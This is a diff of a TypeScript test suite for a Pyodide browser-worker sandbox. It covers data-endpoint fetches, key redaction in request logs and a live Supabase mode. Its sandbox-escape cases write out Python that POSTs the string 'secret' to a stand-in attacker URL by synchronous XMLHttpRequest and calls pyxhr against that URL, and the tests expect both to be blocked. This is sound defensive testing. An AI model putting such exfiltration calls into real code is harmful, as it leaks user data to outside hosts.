@@ -20,10 +20,13 @@ import {
   serveTestPage,
   type StaticServer,
 } from './browser/harness.js';
-import { DATA_PREFIX, type CreateResult } from './browser/page-api.js';
+import { generateDataset } from '@localds/benchmarks';
+import { DATA_KEY, DATA_PREFIX, DATA_SEED, type CreateResult } from './browser/page-api.js';
 import {
   countingServer,
   errors,
+  liveProject,
+  type LiveProject,
   resultText,
   streamText,
   type CountingServer,
@@ -171,22 +174,56 @@ describe('browser-worker sandbox: cells', () => {
     expect(error?.traceback.join('\n')).toMatch(/<cell-\d+>.*line 3[\s\S]*line 2, in f/);
   });
 
-  it('answers pyfetch of the data URL from the main thread fetchHandler and records it without the key', async () => {
+  it('answers pyfetch of the data URL from the data endpoint in the worker and records it without the key', async () => {
     const result = await plain.run(
       'main',
       'from pyodide.http import pyfetch\n' +
-        `r = await pyfetch("${DATA_PREFIX}posthog_events?select=*&apikey=SECRETKEY")\n` +
-        'body = await r.json()\n(r.status, body["answeredBy"])',
+        `r = await pyfetch("${DATA_PREFIX}posthog_events?select=id,variant&limit=3&apikey=${DATA_KEY}")\n` +
+        'body = await r.json()\n(r.status, len(body), sorted(body[0]))',
     );
-    expect(resultText(result)).toBe("(200, 'main-thread')");
+    expect(resultText(result)).toBe("(200, 3, ['id', 'variant'])");
     expect(result.requests).toEqual([
       expect.objectContaining({
         method: 'GET',
-        url: `${DATA_PREFIX}posthog_events?select=*`,
+        url: `${DATA_PREFIX}posthog_events?select=id%2Cvariant&limit=3`,
         status: 200,
         allowed: true,
+        rowsReturned: 3,
       }),
     ]);
+    expect(JSON.stringify(result.requests)).not.toContain(DATA_KEY);
+  });
+
+  it('answers a synchronous XMLHttpRequest the way urllib3 (and so requests) sends one without JSPI', async () => {
+    // The calls of urllib3.contrib.emscripten.fetch.send_request in a worker, in order.
+    const result = await plain.run(
+      'main',
+      'import js, json\nfrom email.parser import Parser\n' +
+        'x = js.XMLHttpRequest.new()\nx.responseType = "arraybuffer"\nx.timeout = 5000\n' +
+        `x.open("GET", "${DATA_PREFIX}posthog_events?select=id&order=id.asc", False)\n` +
+        `x.setRequestHeader("apikey", "${DATA_KEY}")\nx.setRequestHeader("Prefer", "count=exact")\n` +
+        'x.send(None)\n' +
+        'headers = dict(Parser().parsestr(x.getAllResponseHeaders()))\n' +
+        'rows = json.loads(x.response.to_py().tobytes())\n' +
+        '(x.status, len(rows), headers["content-range"])',
+    );
+    expect(errors(result)).toEqual([]);
+    expect(resultText(result)).toBe("(200, 844, '0-843/844')");
+    expect(result.requests).toEqual([
+      expect.objectContaining({ method: 'GET', status: 200, allowed: true, rowsReturned: 844 }),
+    ]);
+  });
+
+  it('serves pyodide.http.pyxhr (a synchronous client) and answers a wrong key with PostgREST’s 401', async () => {
+    const result = await plain.run(
+      'main',
+      'from pyodide.http import pyxhr\n' +
+        `ok = pyxhr.get("${DATA_PREFIX}posthog_events?select=id&limit=2", headers={"apikey": "${DATA_KEY}"})\n` +
+        `bad = pyxhr.get("${DATA_PREFIX}posthog_events?select=id", headers={"apikey": "wrong"})\n` +
+        '(ok.status_code, len(ok.json()), bad.status_code)',
+    );
+    expect(resultText(result)).toBe('(200, 2, 401)');
+    expect(result.requests.map((r) => r.status)).toEqual([200, 401]);
   });
 
   it('lists and reads the files a cell writes in its working directory', async () => {
@@ -278,15 +315,16 @@ describe('browser-worker sandbox: escapes (code generation blocked, the default)
     {
       name: 'synchronous js.XMLHttpRequest',
       code: () =>
-        `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "${evilUrl()}/sync-xhr", False)`,
-      says: 'synchronous XMLHttpRequest is not available',
-      recorded: 'XMLHttpRequest (synchronous)',
+        `import js\nx = js.XMLHttpRequest.new()\nx.open("POST", "${evilUrl()}/sync-xhr", False)\n` +
+        'x.send("secret")\nx.status',
+      result: '403',
+      recorded: 'POST',
     },
     {
       name: 'pyodide.http.pyxhr (synchronous XHR client)',
-      code: () => `from pyodide.http import pyxhr\npyxhr.get("${evilUrl()}/pyxhr")`,
-      says: 'synchronous XMLHttpRequest is not available',
-      recorded: 'XMLHttpRequest (synchronous)',
+      code: () => `from pyodide.http import pyxhr\npyxhr.get("${evilUrl()}/pyxhr").status_code`,
+      result: '403',
+      recorded: 'GET',
     },
     ...(
       [
@@ -434,8 +472,9 @@ print(json.dumps(kinds))`,
     const kinds = JSON.parse(streamText(result)) as Record<string, string>;
     // Reviewed by hand: constructible, but nothing they do leaves the worker.
     const reviewed: Record<string, string> = {
-      fetch: 'the relay to the main thread and its allow-list (tested above)',
-      XMLHttpRequest: 'the relay to the main thread and its allow-list (tested above)',
+      fetch: 'answered by the data endpoint in the worker and its allow-list (tested above)',
+      XMLHttpRequest:
+        'answered by the data endpoint in the worker and its allow-list (tested above)',
       MessageChannel: 'a port reaches another context only through postMessage, which is removed',
       FileSystemObserver:
         'watches file handles, which only the removed navigator.storage hands out',
@@ -565,4 +604,69 @@ describe('browser-worker sandbox: runaway cells', () => {
     expect(resultText(await plain.run('mem', '1 + 1'))).toBe('2');
     await plain.dispose('mem');
   }, 90_000);
+});
+
+describe('browser-worker sandbox: live Supabase mode', () => {
+  const LIVE_KEY = 'live-project-key';
+  const DROPPED = 3;
+  let project: LiveProject;
+
+  beforeAll(async () => {
+    project = await liveProject(generateDataset('canonical', DATA_SEED), LIVE_KEY);
+    booted(
+      await plain.create('live', {
+        live: { project: project.origin, liveKey: LIVE_KEY, dropRows: DROPPED },
+      }),
+    );
+  }, 60_000);
+
+  afterAll(async () => {
+    await plain?.dispose('live').catch(() => undefined);
+    await project?.close();
+  });
+
+  it('forwards fetch and synchronous XHR to the live project with its key, and records drift from the snapshot', async () => {
+    const table = `${project.origin}/rest/v1/posthog_events`;
+    const result = await plain.run(
+      'live',
+      'import js, json\nfrom pyodide.http import pyfetch\n' +
+        `h = {"apikey": "${DATA_KEY}", "Authorization": "Bearer ${DATA_KEY}"}\n` +
+        `a = await pyfetch("${table}?select=id&order=id.asc", headers=h)\n` +
+        `b = await pyfetch("${table}?select=id&order=id.asc&limit=5", headers=h)\n` +
+        'x = js.XMLHttpRequest.new()\nx.responseType = "arraybuffer"\n' +
+        `x.open("GET", "${table}?select=id", False)\nx.setRequestHeader("apikey", "${DATA_KEY}")\n` +
+        'x.setRequestHeader("Prefer", "count=exact")\nx.send(None)\n' +
+        `bad = await pyfetch("${table}?select=id", headers={"apikey": "not-the-key"})\n` +
+        '(a.status, len(await a.json()), b.status, x.status, len(json.loads(x.response.to_py().tobytes())), bad.status)',
+    );
+    expect(errors(result)).toEqual([]);
+    const live = generateDataset('canonical', DATA_SEED).length;
+    expect(resultText(result)).toBe(`(200, ${live}, 200, 200, ${live}, 401)`);
+    expect(result.requests.map((r) => [r.status, r.drift])).toEqual([
+      [200, `${live} rows live, ${live - DROPPED} from the snapshot`],
+      [200, null],
+      [200, `the table holds ${live} rows live, ${live - DROPPED} in the snapshot`],
+      // a wrong key is answered by the snapshot and never forwarded
+      [401, undefined],
+    ]);
+    // The project saw its own key on every request, never the run's, and the wrong key never arrived.
+    expect(project.keysSeen()).toEqual([LIVE_KEY, LIVE_KEY, LIVE_KEY]);
+    expect(JSON.stringify(result)).not.toContain(LIVE_KEY);
+  });
+
+  it('reports an unreachable project as a 502 for that request, without its key', async () => {
+    const origin = project.origin;
+    await project.close();
+    const result = await plain.run(
+      'live',
+      'from pyodide.http import pyfetch\n' +
+        `r = await pyfetch("${origin}/rest/v1/posthog_events?select=id&apikey=${DATA_KEY}")\n` +
+        'r.status',
+    );
+    expect(resultText(result)).toBe('502');
+    expect(result.requests).toEqual([
+      expect.objectContaining({ status: 502, error: expect.any(String) as string }),
+    ]);
+    expect(JSON.stringify(result)).not.toContain(LIVE_KEY);
+  });
 });
